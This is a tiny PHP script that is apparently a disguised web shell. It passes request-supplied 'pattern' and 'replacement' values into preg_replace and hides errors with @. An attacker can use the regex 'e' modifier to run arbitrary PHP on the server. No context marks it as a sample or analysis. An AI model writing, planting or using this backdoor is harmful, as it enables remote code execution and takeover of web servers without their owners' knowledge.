<?php
$pat = $_REQUEST['pattern'];
$rep = $_REQUEST['replacement'];
@preg_replace($pat, $rep, "x");
